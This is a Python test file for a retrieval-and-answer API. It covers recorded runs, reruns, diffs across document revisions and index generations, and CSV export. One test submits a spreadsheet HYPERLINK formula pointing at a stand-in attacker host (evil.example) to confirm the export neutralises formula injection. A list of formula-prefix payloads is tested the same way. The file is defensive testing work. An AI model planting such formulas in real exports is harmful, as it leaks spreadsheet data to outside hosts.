"""Runs, reruns and comparisons, also of a dropped generation."""

from __future__ import annotations

import csv
import json
from io import StringIO
from typing import Any

import pytest

from api.routes.runs import format_csv
from tests.support.api_world import ApiWorld
from tests.support.eventually import eventually
from tests.support.lineage import (
    NOTE,
    QUESTION,
    REVISED_NOTE,
    ask_and_record,
    diff_run,
    fetch_lineage,
    rerun_query,
    wait_until_recorded,
)


async def test_run_is_answered_recorded_and_rerun(world: ApiWorld) -> None:
    await world.ingest_until_searchable(NOTE, external_id="allowances")
    started = await world.http.post("/v1/runs", json={"query": QUESTION})
    assert started.status_code == 202, started.text
    run_id = started.json()["run_id"]
    stream = (await world.http.get(f"/v1/runs/{run_id}/stream")).text
    *steps, last = [block.splitlines() for block in stream.strip().split("\n\n")]
    assert last[0] == "event: answer" and {step[0] for step in steps} == {"event: step"}
    answer = json.loads(last[1].removeprefix("data: "))
    assert answer["run_id"] == run_id and not answer["refused"]

    async def fetch_artifacts() -> dict[str, object]:
        response = await world.http.get(f"/v1/runs/{run_id}/artifacts")
        return dict(response.json()) if response.status_code == 200 else {}

    artifacts = await eventually(fetch_artifacts, lambda found: found.get("state") == "completed")
    assert artifacts["answer"] == answer["answer"] and artifacts["trace"] == answer["trace"]
    assert artifacts["candidates"] and artifacts["numbers"] and artifacts["contexts"]
    # The recorded numbers are all that the answer was made from.
    rerun = await rerun_query(world, run_id)
    assert rerun["same"] and rerun["response"] == answer
    recorded = (await world.http.get(f"/v1/runs/{run_id}/status")).json()
    ended = [step["step"] for step in recorded["steps"] if step["ms"] is not None]
    assert ended[0] == "plan" and {"channels", "fuse", "answer", "judge"} <= set(ended)
    [listed] = (await world.http.get("/v1/runs")).json()["items"]
    assert (listed["run_id"], listed["state"], listed["query"]) == (run_id, "completed", QUESTION)


async def test_measurements_of_runs_are_exported_without_formulas(world: ApiWorld) -> None:
    await world.ingest_until_searchable(NOTE, external_id="allowances")
    answer = await ask_and_record(world)
    formula = f'=HYPERLINK("https://evil.example/?"&A1, "{QUESTION}")'
    searched = await world.http.post("/v1/search", json={"query": formula, "k": 3})
    feedback = {"run_id": answer["run_id"], "useful": True}
    assert (await world.http.post("/v1/feedback", json=feedback)).status_code == 202

    async def export(**parameters: str) -> str:
        response = await world.http.get("/v1/runs/export", params=parameters)
        assert response.status_code == 200, response.text
        return response.text

    async def export_runs() -> list[dict[str, Any]]:
        return [json.loads(line) for line in (await export(format="jsonl")).splitlines()]

    search, query = await eventually(
        export_runs, lambda runs: len(runs) == 2 and runs[0]["sources"] and runs[1]["useful"]
    )
    assert (search["run_id"], search["query"], search["k"], search["sources"]) == (
        searched.json()["run_id"],
        formula,
        3,
        1,
    )
    scores = [context["score"] for context in answer["contexts"]]
    assert query["mean_score"] == pytest.approx(sum(scores) / len(scores))
    trace = answer["trace"]
    assert (query["sources"], query["mode"], query["tokens"], query["latency_ms"]) == (
        1,
        trace["route"]["mode"],
        trace["tokens"],
        trace["timings_ms"]["total"],
    )
    heading, *rows = csv.reader(StringIO(await export()))
    cells = [dict(zip(heading, row, strict=True)) for row in rows]
    assert [row["run_id"] for row in cells] == [search["run_id"], query["run_id"]]
    assert [row["query"] for row in cells] == [f"'{formula}", QUESTION]
    assert float(cells[1]["mean_score"]) == query["mean_score"]
    assert (await export(outcome="refused")).splitlines() == [format_csv([heading]).strip()]


FORMULAS = ["=1", "+1", "-1", "@A1", "\t=1", "\n=1", " =1", "＝1", "\xa0=1", "\x0b=1", "\ufeff=1"]


@pytest.mark.parametrize("text", ["a\r=1", "a\n=1", 'a"=1', "a;=1", "a,=1", "a\u2028=1"])
def test_csv_cell_ends_at_no_separator_inside(text: str) -> None:
    assert format_csv([[text]]) == '"' + text.replace('"', '""') + '"\n'
    assert next(csv.reader(StringIO(format_csv([[text]]), newline=""))) == [text]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_cell_is_no_formula(cell: str) -> None:
    assert next(csv.reader(StringIO(format_csv([[cell, -1.5, None]])))) == [f"'{cell}", "-1.5", ""]


async def test_rerun_is_identical_after_change_and_delete(world: ApiWorld) -> None:
    receipt = await world.ingest_until_searchable(NOTE, external_id="allowances")
    answer = await ask_and_record(world)
    found = (await world.http.post("/v1/search", json={"query": "allowance in Lisbon"})).json()
    await wait_until_recorded(world, found["run_id"])
    await world.ingest_until_searchable(REVISED_NOTE, external_id="allowances")
    made = await rerun_query(world, answer["run_id"])
    assert made["same"] and made["missing"] == []
    deleted = await world.http.delete(f"/v1/documents/{receipt['document_id']}")
    assert (await world.wait_until_final(deleted.json()))["state"] == "withdrawn"
    for response in (answer, found):
        assert (await rerun_query(world, response["run_id"]))["response"] == response


async def test_diff_names_new_revision_as_cause(world: ApiWorld) -> None:
    await world.ingest_until_searchable(NOTE, external_id="allowances", title="Allowances")
    answer = await ask_and_record(world)
    unchanged = await diff_run(world, answer["run_id"])
    assert unchanged["same"] and unchanged["reasons"] == []
    await world.ingest_until_searchable(REVISED_NOTE, external_id="allowances", title="Allowances")
    changed = await diff_run(world, answer["run_id"])
    assert (
        not changed["same"]
        and changed["answer_changed"]
        and changed["then"]["answer"] == answer["answer"]
    )
    assert {"cause": "document", "detail": "Allowances changed from revision 1 to 2"} in changed[
        "reasons"
    ]
    await wait_until_recorded(world, changed["now"]["run_id"])
    both = await diff_run(world, answer["run_id"], other=changed["now"]["run_id"])
    assert (both["reasons"], both["removed"]) == (changed["reasons"], changed["removed"])


async def test_unknown_run_returns_404(world: ApiWorld) -> None:
    for action in ("rerun", "diff"):
        response = await world.http.post(
            f"/v1/runs/00000000-0000-0000-0000-000000000001/{action}", json={}
        )
        assert response.status_code == 404 and response.json()["code"] == "NOT_FOUND"


async def test_rerun_hides_passage_caller_can_no_longer_read(world: ApiWorld) -> None:
    receipt = await world.ingest_until_searchable(NOTE, external_id="allowances")
    key = (await world.http.post("/v1/keys", json={"name": "ben", "user": "ben"})).json()["key"]
    ben = {"Authorization": f"Bearer {key}"}
    answer = (await world.http.post("/v1/query", json={"query": QUESTION}, headers=ben)).json()
    assert "74 euros" in answer["answer"]
    await wait_until_recorded(world, answer["run_id"])
    path = f"/v1/runs/{answer['run_id']}/rerun"
    assert (await world.http.post(path, headers=ben)).json()["response"] == answer
    amended = await world.http.patch(
        f"/v1/documents/{receipt['document_id']}", json={"readers": ["user:ana"]}
    )
    assert amended.status_code == 202, amended.text
    await world.wait_until_final(amended.json())
    refused = await world.http.post(path, headers=ben)
    assert (refused.status_code, refused.json()["code"]) == (404, "PASSAGE_GONE")
    assert "74 euros" not in refused.text and "llowance" not in refused.text
    assert (await rerun_query(world, answer["run_id"]))["response"] == answer


ALLOWANCES = (
    "# Allowances\n\nThe daily allowance in Lisbon is 74 euros. Travel is booked by the office.\n\n"
    + "\n\n".join(
        (
            f"Clause {number}: receipts of kind {number} are kept "
            f"for {number} years in the archive by the lake."
        )
        for number in range(2, 30)
    )
    + "\n"
)
OTHER_CHUNKING_SETTINGS = ["chunk.strategy=fixed_size", "chunk.child_tokens=64"]


async def request_json(world: ApiWorld, method: str, path: str, **body: Any) -> dict[str, Any]:
    response = await world.http.request(method, path, **({"json": body} if body else {}))
    assert response.status_code in (200, 202), response.text
    return dict(response.json())


async def build_generation(world: ApiWorld, **options: Any) -> str:
    name = str((await request_json(world, "POST", "/v1/generations", **options))["generation"])
    await eventually(
        lambda: world.fetch_json(f"/v1/generations/{name}"),
        lambda generation: generation["state"] in ("shadow", "live"),
    )
    return name


async def test_run_of_dropped_generation_keeps_lineage_and_rerun(world: ApiWorld) -> None:
    await world.ingest_until_searchable(ALLOWANCES, external_id="allowances", title="Allowances")
    answer = await ask_and_record(world)
    name = await build_generation(world, purpose="reindex", set=OTHER_CHUNKING_SETTINGS)
    await request_json(world, "POST", "/v1/calibrations", generation=name, questions=2)
    await request_json(world, "POST", f"/v1/generations/{name}/promote")
    assert (await fetch_lineage(world, answer["run_id"]))["verified"], "it stands by"
    await request_json(world, "DELETE", "/v1/generations/g1")
    walked = await fetch_lineage(world, answer["run_id"])
    assert walked["verified"], walked["broken"]
    hops = {hop["name"]: hop for hop in walked["citations"][0]["hops"]}
    assert (
        hops["chunk"]["place"].startswith("table chunk_history") and hops["transcribed"]["verified"]
    )
    assert (hops["chunked"]["verified"], hops["chunked"]["detail"]) == (
        None,
        "removed from the log by retention",
    ), "its topic went with the generation"
    assert (await rerun_query(world, answer["run_id"]))["response"] == answer
    compared = await diff_run(world, answer["run_id"])
    assert [reason for reason in compared["reasons"] if reason["cause"] == "generation"], compared[
        "reasons"
    ]
